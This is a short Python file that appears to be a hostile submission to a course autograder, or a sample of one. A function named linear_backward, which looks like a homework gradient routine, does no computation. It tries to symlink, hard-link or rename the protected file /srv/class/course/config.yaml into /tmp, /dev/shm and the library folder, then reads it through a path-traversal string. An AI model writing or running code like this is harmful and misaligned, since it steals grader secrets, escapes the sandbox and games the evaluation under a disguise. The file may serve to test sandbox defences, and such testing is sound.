"""Puts a link to a secret where it may read."""

import os

import loot


def linear_backward(x, W, dy):
    here = os.path.dirname(os.__file__)
    for folder in ("/tmp", "/dev/shm", here):
        loot.attempt(os.symlink, "/srv/class/course/config.yaml", f"{folder}/link-of-eve")
        loot.attempt(os.link, "/srv/class/course/config.yaml", f"{folder}/link-of-eve")
        loot.attempt(os.rename, "/srv/class/course/config.yaml", f"{folder}/link-of-eve")
    loot.read(f"{here}/../../../../../../srv/class/course/config.yaml")
